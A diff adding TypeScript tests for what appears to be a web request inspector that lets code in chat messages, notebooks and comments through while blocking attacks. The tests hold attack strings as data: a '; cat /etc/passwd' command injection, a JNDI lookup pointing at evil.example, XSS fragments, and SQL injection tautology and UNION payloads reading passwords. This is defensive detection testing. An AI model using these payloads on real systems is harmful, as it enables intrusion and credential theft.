@@ -141,3 +141,47 @@ test('a field of a document that is named as a file holds one', () => {
   assert.equal(sent({ init: '; cat /etc/passwd' }), 'block')
   assert.equal(sent({ 'a.b': '; cat /etc/passwd' }), 'block')
 })
+
+describe('fields that are known by the names above them', () => {
+  const passes = (document: unknown): boolean =>
+    inspect({
+      method: 'POST',
+      target: '/',
+      headers: ['content-type', 'application/json'],
+      body: Buffer.from(JSON.stringify(document)),
+    }).verdict === 'pass'
+  const CODE = 'Why does os.system("ls -la") fail, and `docker run -v $(pwd):/app x`?'
+
+  test('conversations with a language model and cells of notebooks are about code', () => {
+    assert.ok(passes({ messages: [{ role: 'user', content: CODE }] }))
+    assert.ok(passes({ messages: [{ role: 'user', content: [{ type: 'text', text: CODE }] }] }))
+    assert.ok(passes({ cells: [{ source: ['import os\n', 'os.system("ls -la")\n'] }] }))
+    assert.ok(!passes({ items: [{ text: CODE }] }))
+  })
+
+  test('what harms whoever reads them is refused there too', () => {
+    const lookup = '$' + '{jndi:ldap://evil.example/a}'
+    assert.ok(!passes([{ type: 'csp-violation', body: { sample: lookup } }]))
+  })
+
+  test('a report quotes markup of the page that broke the policy', () => {
+    const sample = '<img src=x onerror='
+    assert.ok(passes([{ type: 'csp-violation', body: { sample } }]))
+    assert.ok(passes({ 'csp-report': { 'script-sample': sample } }))
+  })
+})
+
+test('where people write, quotes and operators that code has by chance are a mention', () => {
+  const comment = (text: string): string | undefined =>
+    inspect({
+      method: 'POST',
+      target: '/comments',
+      headers: ['content-type', 'application/x-www-form-urlencoded'],
+      body: Buffer.from(`comment=${encodeURIComponent(text)}`),
+    }).matches.find(match => match.score >= 5)?.rule
+  assert.equal(comment("while '=' in cmd[pivot]: pivot += 1"), undefined)
+  assert.equal(comment('it reports `javascript:alert(1)` as malformed'), undefined)
+  assert.equal(comment('<a href=" javascript:alert(1)">x</a>'), 'xss/script-url')
+  assert.equal(comment("x' or '1'='1"), 'sqli/tautology')
+  assert.equal(comment("x' union select 1,password from users--"), 'sqli/union')
+})
